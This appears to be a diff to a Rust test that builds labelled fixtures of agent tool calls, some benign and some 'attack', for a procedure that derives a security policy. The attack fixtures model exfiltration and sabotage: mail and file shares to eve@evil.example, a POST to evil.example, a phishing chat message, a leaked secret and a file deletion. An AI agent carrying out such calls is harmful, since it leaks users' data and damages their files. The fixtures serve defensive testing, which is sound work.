@@ -174,154 +174,86 @@ fn of_an_office_what_arrived_establishes_nothing() {
     assert!(found.payees.is_empty(), "{found:?}");
 }
 
-#[test]
-fn a_policy_for_other_suites_is_made_by_the_same_procedure() {
-    let call = |task: &str, kind: &str, i: usize, tool: &str, action: &str, payload: Value| {
-        let suite = if action == "service.api_call" && payload["service"] != "drive" {
-            "chat"
-        } else {
-            "office"
-        };
-        let class = if payload["method"] == "GET" {
-            "read"
-        } else {
-            "side"
-        };
-        json!({"suite": suite, "task_id": task, "kind": kind, "source": "made", "i": i, "tool": tool,
-            "class": class, "action": action, "payload": payload, "seed_misfit": []})
-    };
+/// A recorded call; `u` tasks are benign, `a` tasks are attacks.
+fn call(task: &str, i: usize, tool: &str, action: &str, payload: Value) -> Value {
+    let is_chat = action == "service.api_call" && payload["service"] != "drive";
+    let suite = if is_chat { "chat" } else { "office" };
+    let is_read = payload["method"] == "GET";
+    let class = if is_read { "read" } else { "side" };
+    let is_benign = task.starts_with('u');
+    let kind = if is_benign { "benign" } else { "attack" };
+    json!({
+        "suite": suite, "task_id": task, "kind": kind, "source": "made", "i": i, "tool": tool,
+        "class": class, "action": action, "payload": payload, "seed_misfit": [],
+    })
+}
+
+fn calls_of_other_suites() -> [Value; 13] {
     let api = |service: &str, endpoint: &str, method: &str, body: Value| json!({"service": service, "endpoint": endpoint, "method": method, "body": body});
-    let get = |host: &str| api("web", "/page", "GET", json!({"url": host}));
-    let say = |to: &str, text: &str| {
-        api(
-            "chat",
-            "/message",
-            "POST",
-            json!({"recipient": to, "body": text}),
+    let page = |task: &str, url: &str| {
+        let payload = api("web", "/page", "GET", json!({"url": url}));
+        call(task, 0, "page", "service.api_call", payload)
+    };
+    let say = |task: &str, i: usize, to: &str, text: &str| {
+        let body = json!({"recipient": to, "body": text});
+        call(
+            task,
+            i,
+            "say",
+            "service.api_call",
+            api("chat", "/message", "POST", body),
         )
     };
-    let mail = |to: &str| json!({"to": [to], "subject": "s", "body": "b"});
-    let calls = [
+    let mail = |task: &str, to: &str| {
+        let payload = json!({"to": [to], "subject": "s", "body": "b"});
+        call(task, 0, "mail", "email.send", payload)
+    };
+    let share = |task: &str, i: usize, with: &str| {
+        let body = json!({"file": "1", "email": with});
         call(
-            "u0",
-            "benign",
-            0,
-            "page",
-            "service.api_call",
-            get("https://www.news.example/today"),
-        ),
-        call(
-            "u0",
-            "benign",
-            1,
-            "say",
-            "service.api_call",
-            say("Ann", "done. more tomorrow"),
-        ),
-        call(
-            "u1",
-            "benign",
-            0,
-            "mail",
-            "email.send",
-            mail("Dana@client.example"),
-        ),
-        call(
-            "u1",
-            "benign",
-            1,
+            task,
+            i,
             "share",
             "service.api_call",
-            api(
-                "drive",
-                "/share",
-                "POST",
-                json!({"file": "1", "email": "vi@client.example"}),
-            ),
-        ),
+            api("drive", "/share", "POST", body),
+        )
+    };
+    let post = |task: &str, tool: &str, service: &str, endpoint: &str, body: Value| {
         call(
-            "a0",
-            "attack",
+            task,
             0,
-            "page",
+            tool,
             "service.api_call",
-            get("https://evil.example/x"),
-        ),
-        call(
-            "a1",
-            "attack",
-            0,
-            "say",
-            "service.api_call",
-            say("Ann", "log in at www.evil.example"),
-        ),
-        call(
-            "a2",
-            "attack",
-            0,
-            "say",
-            "service.api_call",
-            say("Mallory", "hi"),
-        ),
-        call(
-            "a3",
-            "attack",
-            0,
-            "post",
-            "service.api_call",
-            api(
-                "web",
-                "/post",
-                "POST",
-                json!({"url": "www.news.example", "content": "all"}),
-            ),
-        ),
-        call(
-            "a4",
-            "attack",
-            0,
-            "far",
-            "service.api_call",
-            api("evil.example", "/in", "POST", json!({})),
-        ),
-        call(
-            "a5",
-            "attack",
-            0,
-            "say",
-            "service.api_call",
-            say("Ben", "the secret is 7"),
-        ),
-        call(
-            "a6",
-            "attack",
-            0,
-            "mail",
-            "email.send",
-            mail("eve@evil.example"),
-        ),
-        call(
-            "a7",
-            "attack",
-            0,
-            "share",
-            "service.api_call",
-            api(
-                "drive",
-                "/share",
-                "POST",
-                json!({"file": "1", "email": "eve@evil.example"}),
-            ),
-        ),
-        call(
+            api(service, endpoint, "POST", body),
+        )
+    };
+    let all = json!({"url": "www.news.example", "content": "all"});
+    [
+        page("u0", "https://www.news.example/today"),
+        say("u0", 1, "Ann", "done. more tomorrow"),
+        mail("u1", "Dana@client.example"),
+        share("u1", 1, "vi@client.example"),
+        page("a0", "https://evil.example/x"),
+        say("a1", 0, "Ann", "log in at www.evil.example"),
+        say("a2", 0, "Mallory", "hi"),
+        post("a3", "post", "web", "/post", all),
+        post("a4", "far", "evil.example", "/in", json!({})),
+        say("a5", 0, "Ben", "the secret is 7"),
+        mail("a6", "eve@evil.example"),
+        share("a7", 0, "eve@evil.example"),
+        post(
             "a8",
-            "attack",
-            0,
             "delete",
-            "service.api_call",
-            api("drive", "/delete_file", "POST", json!({"file": "1"})),
+            "drive",
+            "/delete_file",
+            json!({"file": "1"}),
         ),
-    ];
+    ]
+}
+
+#[test]
+fn a_policy_for_other_suites_is_made_by_the_same_procedure() {
+    let calls = calls_of_other_suites();
     let data = tempfile::tempdir().unwrap();
     let lines: Vec<String> = calls.iter().map(Value::to_string).collect();
     fs::write(data.path().join("requests.jsonl"), lines.join("\n")).unwrap();
